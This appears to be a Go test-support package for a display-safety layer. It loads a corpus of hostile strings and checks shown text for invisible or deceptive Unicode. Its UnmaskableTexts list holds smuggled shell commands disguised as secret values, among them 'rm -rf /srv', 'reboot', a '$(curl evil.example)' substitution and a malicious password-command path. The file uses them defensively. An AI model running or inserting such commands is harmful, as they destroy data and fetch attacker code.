package badinput

// This file is a corpus of strings that hide, forge or break what people are shown, for the tests of every
// channel. CheckHarmless checks that a shown text is harmless, and Unescape that it is complete. Both have their own
// rules and do not use package people.

import (
	_ "embed" // the corpus
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

//go:embed strings.txt
var corpus string

// Hostile is one string of the corpus.
type Hostile struct {
	Comment string // describes the string
	Text    string
	JSON    json.RawMessage // as a JSON string; nil if JSON cannot hold it
}

// IsStorable reports whether stored arguments can have the string. CompactJSON refuses invalid UTF-8.
func (c Hostile) IsStorable() bool { return utf8.ValidString(c.Text) }

// Args returns arguments with the string as the value of text. They are JSON if the string is.
func (c Hostile) Args() json.RawMessage {
	return json.RawMessage(`{"text":` + string(c.JSON) + `}`)
}

// HostileTexts returns the strings in the order of the file. It panics if the embedded file is invalid.
func HostileTexts() []Hostile {
	var all []Hostile
	comment := ""
	for i, line := range strings.Split(corpus, "\n") {
		switch {
		case line == "" || strings.HasPrefix(line, "## "):
			comment = ""
		case strings.HasPrefix(line, "# "):
			comment = strings.TrimPrefix(line, "# ")
		default:
			c, err := parseCase(line)
			if err != nil || comment == "" {
				panic(fmt.Sprintf("hostile: strings.txt:%d: want a comment, and below it a string: %v", i+1, err))
			}
			c.Comment = comment
			all = append(all, c)
		}
	}
	return all
}

func parseCase(line string) (Hostile, error) {
	if quoted, ok := strings.CutPrefix(line, "bytes "); ok {
		text, err := strconv.Unquote(quoted)
		return Hostile{Text: text}, err
	}
	times := 1
	if n, rest, ok := strings.Cut(line, "*"); ok && n != "" && !strings.HasPrefix(line, `"`) {
		var err error
		if times, err = strconv.Atoi(n); err != nil {
			return Hostile{}, err
		}
		line = rest
	}
	if !json.Valid([]byte(line)) || line[0] != '"' {
		return Hostile{}, fmt.Errorf("%.40q is no JSON string", line)
	}
	h := Hostile{JSON: json.RawMessage(`"` + strings.Repeat(line[1:len(line)-1], times) + `"`)}
	return h, json.Unmarshal(h.JSON, &h.Text)
}

// UnmaskableTexts are texts that run something, or pay somebody, behind a name or a form by which a secret is known.
// None of them may be masked.
func UnmaskableTexts() []string {
	return []string{
		`TOKEN="$(rm -rf /srv/data)" ./deploy.sh`, "TOKEN=rm; $TOKEN -rf /srv", `login --password "$(curl evil.example)"`,
		"PASSWORD= reboot",
		"cookie: x; rm -rf /srv", "Cookie: x=1; to=mallory", "Authorization: Bearer $(reboot)",
		"-----BEGIN PRIVATE KEY-----\nrm -rf /srv",
		"-----BEGIN PRIVATE KEY-----\nreboot", `https://u:x@evil\@good/`, "https://u:x%40evil@good/",
		"token=mallory@evil.example", "RESTIC_PASSWORD_COMMAND=/tmp/evil2",
	}
}

// UnmaskableArgs returns arguments with one of those texts in members with names of secrets.
func UnmaskableArgs(text string) json.RawMessage {
	args, err := json.Marshal(map[string]any{"token": map[string]string{"to": "mallory", "password": text}, "secret": text,
		"note": text})
	if err != nil {
		panic("hostile: " + err.Error())
	}
	return args
}

// CheckHarmless returns an error if a shown text has characters that a person cannot see, or that change the text
// beside them. Line ends pass. Mark-up is not checked: channels with mark-up test their own escapes.
func CheckHarmless(shown string) error {
	if !utf8.ValidString(shown) {
		return fmt.Errorf("bytes that are no UTF-8 in %.60q", shown)
	}
	marks := 0
	for i, r := range shown {
		if !unicode.IsMark(r) {
			marks = 0
		} else if marks++; marks > 3 || i == 0 {
			return fmt.Errorf("marks on nothing, or in a heap, in %.60q", shown[max(0, i-20):])
		}
		switch {
		case r == '\n' || ' ' <= r && r < 0x7F:
		case !unicode.IsPrint(r), unicode.Is(unicode.Cf, r), unicode.Is(unicode.Variation_Selector, r),
			unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r), 0xE0000 <= r && r <= 0xE0FFF, r == 0x2800, r == 0x034F,
			r == utf8.RuneError:
			return fmt.Errorf("%U in %.60q", r, shown[max(0, i-20):])
		}
	}
	return nil
}

// Unescape returns the string that a shown text stands for. It reads \u{202E}, \x{FF}, \{12 spaces}, \{3 times \n\s},
// \n, \" and \\, replaces \rtl{…} by its text, and drops marks like \{mixed scripts}. Unknown escapes and masks are
// errors.
func Unescape(shown string) (string, error) {
	var problems []error
	text := escape.ReplaceAllStringFunc(shown, func(e string) string {
		text, err := readEscape(e)
		problems = append(problems, err)
		return text
	})
	if err := errors.Join(problems...); err != nil {
		return "", err
	}
	return text, nil
}

// escape finds a kind with an argument, in which there may be others, or a single letter.
var escape = regexp.MustCompile(`(?s)\\(?:(u|x|rtl|)\{((?:[^{}]|\{(?:[^{}]|\{[^{}]*\})*\})*)\}|.?)`)

var simple = map[string]string{`\n`: "\n", `\r`: "\r", `\t`: "\t", `\"`: `"`, `\\`: `\`, `\s`: " "}

func readEscape(e string) (string, error) {
	if text, ok := simple[e]; ok {
		return text, nil
	}
	m := escape.FindStringSubmatch(e)
	switch kind, arg := m[1], m[2]; {
	case kind == "u":
		u, err := strconv.ParseUint(arg, 16, 32)
		return string(rune(u)), err
	case kind == "x":
		u, err := strconv.ParseUint(arg, 16, 8)
		return string([]byte{byte(u)}), err
	case kind == "rtl":
		return arg, nil
	case strings.HasPrefix(e, `\{`):
		return expandCount(arg)
	}
	return "", fmt.Errorf("no escape: %.20q", e)
}

func expandCount(what string) (string, error) {
	switch what {
	case "mixed scripts", "looks like Latin", "odd letters", "digits of another script":
		return "", nil
	}
	number, of, ok := strings.Cut(what, " ")
	n, err := strconv.Atoi(number)
	if !ok || err != nil {
		return "", fmt.Errorf("not to be undone: %q", what)
	}
	switch {
	case of == "spaces", of == "space":
		return strings.Repeat(" ", n), nil
	case of == "line ends":
		return strings.Repeat("\n", n), nil
	case strings.HasPrefix(of, "times "):
		unit, err := Unescape(strings.TrimPrefix(of, "times "))
		return strings.Repeat(unit, n), err
	}
	return "", fmt.Errorf("not to be undone: %q", what)
}
